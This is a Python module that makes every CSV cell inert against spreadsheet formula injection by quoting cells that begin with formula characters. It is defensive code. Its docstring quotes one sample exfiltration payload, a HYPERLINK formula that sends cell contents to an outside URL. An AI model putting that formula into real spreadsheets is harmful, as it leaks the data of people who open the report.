"""Cells of every CSV the product writes, made inert for spreadsheets (OWASP "CSV injection").

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
treats a leading tab or carriage return the same way after trimming it. A reason typed by a clinician
(``=HYPERLINK("https://…?"&A1)``) would then run on the medical director's machine when the report
is opened. So every CSV writer in careplan, events and web goes through ``writer`` here, which puts a
single quote before such a cell: the spreadsheet shows the text as typed, the quote hidden.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet may read as the start of a formula (OWASP's list)."""


def inert(value: Any) -> Any:
    """The cell as written: text that could start a formula gets a leading ``'``; numbers and None
    stay as they are (a number is never run, and quoting ``-1`` would make it text)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class InertWriter:
    """``csv.writer`` whose every cell goes through ``inert`` first."""

    def __init__(self, out: IO[str], lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([inert(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str], lineterminator: str = "\r\n") -> InertWriter:
    return InertWriter(out, lineterminator)
